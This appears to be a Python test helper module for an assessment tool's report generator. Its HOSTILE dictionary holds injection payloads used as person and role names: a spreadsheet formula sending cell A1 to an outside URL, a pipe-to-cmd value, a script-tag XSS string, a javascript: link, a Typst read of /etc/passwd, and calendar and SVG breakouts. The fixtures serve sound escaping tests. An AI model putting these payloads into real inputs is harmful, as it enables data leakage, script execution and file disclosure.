"""Reports to write, and text that would do harm if any format read it."""

from dataclasses import replace
from datetime import date
from random import Random
from typing import Final

from hypothesis import strategies as st

from assessment.attempts import Attempt
from assessment.bank import Bank
from assessment.content.items import Answer, BestAndWorst, ChosenOption, DontKnow, Item, TypedNumber
from assessment.content.model import Role
from assessment.decisions import Pace
from assessment.evaluation import Result, evaluate
from assessment.reports.document import Report
from assessment.reports.drafting import Plan, draft
from assessment.schedule import retake_on, schedule
from tests.examples import attempt, attempts, miniature, roles, shipped

DAY: Final = date(2026, 11, 25)
PACE: Final = Pace(hours_per_week=4, start=DAY)

HOSTILE: Final = {
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3|cmd",
    "at": "@SUM(1+1)",
    "wide formula": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "html": "</script><script>alert(1)</script><b>x</b> &amp; <img src=x>",
    "markdown": "[x](javascript:alert) ![y](http://example.org/a.png) *b* _i_ `c` # h",
    "typst": '#read("/etc/passwd") #panic() $x_1$ *b* _i_ @ref <l> // c /* d */ \\u{41} ~ `r` = h',
    "svg": '"/><image href="http://example.org/a.png"/>',
    "calendar": "x END:VEVENT BEGIN:VEVENT; SUMMARY:y, z\\n",
    "address": "www.example.org a@example.org https://example.org",
    "accents": "Zoë Šćepanović Ōκἀ Жуков",
}
"""Names that a person may have; each must be read exactly as typed."""


def report_on(
    done: Attempt, role: Role | None = None, name: str = "Ada", bank: Bank | None = None
) -> tuple[Report, Result]:
    """The report on an attempt at the miniature, or at ``bank``, and the result it is on."""
    bank = bank or miniature()
    result = evaluate(bank, done, role or bank.content.roles[0])
    plan = Plan(schedule(result.steps, PACE), retake_on(PACE))
    return draft(bank, done, result, plan, DAY, name), result


@st.composite
def reports(draw: st.DrawFn) -> tuple[Report, Result]:
    """Reports on any attempt at the miniature against any role."""
    return report_on(draw(attempts()), draw(roles()))


def hostile(text: str) -> Report:
    """A report in which the person, the role and the evidence are called ``text``."""
    role = miniature().content.roles[0].model_copy(update={"name": text})
    done = replace(attempt({"pricing": 3, "returns": 2}), evidence={"pricing": text})
    return report_on(done, role, text)[0]


def sized(rated: int, answered: int) -> Report:
    """A report on the content that comes with the product, as full as asked."""
    bank, chance = shipped(), Random(answered)
    subs = [sub.id for sub in bank.content.sub_skills][:rated]
    items = [item for _, item in bank.content.items.values()][:: max(1, 120 // max(answered, 1))]
    answers = {item.id: _answer(item, chance) for item in items[:answered]}
    ratings = {sub: chance.choice([1, 2, 3, 4, None]) for sub in subs}
    return report_on(attempt(ratings, answers), bank=bank)[0]


def _answer(item: Item, chance: Random) -> Answer:
    if chance.random() > 0.6:
        return DontKnow()
    if item.family == "numeric":
        return TypedNumber(value=item.answer)
    by_credit = [option.id for option in sorted(item.options, key=lambda each: -each.credit)]
    if item.family == "judgement":
        return BestAndWorst(best=by_credit[0], worst=by_credit[-1])
    return ChosenOption(option=by_credit[0])
